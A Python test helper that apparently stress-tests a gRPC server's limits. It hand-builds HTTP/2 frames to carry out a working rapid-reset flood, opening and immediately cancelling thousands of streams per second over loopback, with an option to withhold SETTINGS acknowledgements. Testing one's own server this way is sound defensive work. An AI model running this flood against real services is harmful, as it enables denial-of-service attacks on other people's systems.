"""Hostile HTTP/2 clients for the gRPC server's limit tests, in Python stdlib only (h2c with prior
knowledge, loopback only).

Frames are written by hand; header blocks use HPACK literals without indexing and without Huffman
coding, so the encoder keeps no state. Frames from the server are only parsed far enough to
answer SETTINGS (when asked to) and to count RST_STREAM, GOAWAY (with its error code and debug
text) and connection closes.

As a program it runs the rapid-reset attack and prints one JSON line with its counters:
  python3 h2_attack.py rapid-reset --port P [--connections N] [--seconds S] [--rate R]
      [--token T] [--no-ack]
Every connection opens a stream (HEADERS for LogsService/Export plus a DATA frame with a small
gRPC message) and resets it at once (RST_STREAM CANCEL), in batches, up to R streams per second
per connection, for S seconds; a connection that the server closes is opened again.
"""
import argparse
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
LOGS_EXPORT = "/opentelemetry.proto.collector.logs.v1.LogsService/Export"
# ExportLogsServiceRequest { resource_logs { scope_logs { log_records { body "x" } } } }
LOGS_REQUEST = bytes([0x0A, 0x09, 0x12, 0x07, 0x12, 0x05, 0x2A, 0x03, 0x0A, 0x01, 0x78])


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def _hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def header_block(headers):
    """HPACK: every field as a literal without indexing, new name, no Huffman coding."""
    out = bytearray()
    for name, value in headers:
        n, v = name.encode(), value.encode()
        out += b"\x00" + _hpack_int(len(n), 7) + n + _hpack_int(len(v), 7) + v
    return bytes(out)


def grpc_headers(port, token=None, path=LOGS_EXPORT):
    h = [(":method", "POST"), (":scheme", "http"), (":path", path),
         (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
         ("te", "trailers")]
    if token:
        h.append(("authorization", f"Bearer {token}"))
    return header_block(h)


def grpc_message(msg=LOGS_REQUEST):
    return b"\x00" + struct.pack(">I", len(msg)) + msg


class Conn:
    """One HTTP/2 connection with a reader thread that drains and counts the server's frames."""

    def __init__(self, port, ack_settings=True, host="127.0.0.1", timeout=10):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.ack_settings = ack_settings
        self.lock = threading.Lock()
        self.closed = threading.Event()
        self.settings_acked_by_us = threading.Event()
        self.server_settings = {}
        self.rst_received = 0
        self.rst_codes = {}
        self.goaway = None  # (error code, debug text)
        self.next_stream = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def new_stream_id(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def _recv_exact(self, n):
        buf = bytearray()
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError("closed")
            buf += chunk
        return bytes(buf)

    def _read(self):
        try:
            while True:
                head = self._recv_exact(9)
                length = struct.unpack(">I", b"\x00" + head[:3])[0]
                ftype, flags = head[3], head[4]
                payload = self._recv_exact(length) if length else b""
                if ftype == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload) - 5, 6):
                        k, v = struct.unpack(">HI", payload[i:i + 6])
                        self.server_settings[k] = v
                    if self.ack_settings:
                        self.send(frame(SETTINGS, ACK, 0))
                        self.settings_acked_by_us.set()
                elif ftype == RST_STREAM:
                    self.rst_received += 1
                    code = struct.unpack(">I", payload[:4])[0]
                    self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
                elif ftype == GOAWAY:
                    code = struct.unpack(">I", payload[4:8])[0]
                    self.goaway = (code, payload[8:].decode("utf-8", "replace"))
        except (OSError, ConnectionError):
            pass
        finally:
            self.closed.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass
        self.reader.join(5)


def rapid_reset(port, seconds, rate, token=None, ack=True, batch=100, stop_at=None):
    """Opens-and-resets streams on one connection (reopened when closed); returns counters."""
    stats = {"streams": 0, "connections": 0, "goaways": {}, "rst_received": 0, "errors": 0}
    headers = grpc_headers(port, token)
    body = grpc_message()
    end = stop_at or (time.monotonic() + seconds)
    conn = None
    started = time.monotonic()
    while time.monotonic() < end:
        if conn is None or conn.closed.is_set():
            if conn is not None:
                _account(stats, conn)
                conn.close()
            try:
                conn = Conn(port, ack_settings=ack)
                stats["connections"] += 1
            except OSError:
                stats["errors"] += 1
                conn = None
                time.sleep(0.05)
                continue
        out = bytearray()
        for _ in range(batch):
            sid = conn.new_stream_id()
            if sid > 0x7FFFFFFF - 2:
                conn.closed.set()
                break
            out += frame(HEADERS, END_HEADERS, sid, headers)
            out += frame(DATA, 0, sid, body)
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        try:
            conn.send(bytes(out))
            stats["streams"] += batch
        except OSError:
            conn.closed.set()
            continue
        # Pace to `rate` streams per second for this connection.
        ahead = stats["streams"] / rate - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(min(ahead, 0.2))
    if conn is not None:
        _account(stats, conn)
        conn.close()
    return stats


def _account(stats, conn):
    stats["rst_received"] += conn.rst_received
    if conn.goaway is not None:
        key = f"{conn.goaway[0]}:{conn.goaway[1]}"
        stats["goaways"][key] = stats["goaways"].get(key, 0) + 1


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["rapid-reset"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=2)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--rate", type=float, default=5000, help="streams per second per connection")
    p.add_argument("--token")
    p.add_argument("--no-ack", action="store_true", help="never acknowledge the server's SETTINGS")
    a = p.parse_args()
    results = [None] * a.connections
    stop_at = time.monotonic() + a.seconds

    def run(i):
        results[i] = rapid_reset(a.port, a.seconds, a.rate, a.token, not a.no_ack, stop_at=stop_at)

    threads = [threading.Thread(target=run, args=(i,)) for i in range(a.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    total = {"streams": 0, "connections": 0, "goaways": {}, "rst_received": 0, "errors": 0}
    for r in results:
        for k in ("streams", "connections", "rst_received", "errors"):
            total[k] += r[k]
        for k, v in r["goaways"].items():
            total["goaways"][k] = total["goaways"].get(k, 0) + v
    json.dump(total, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
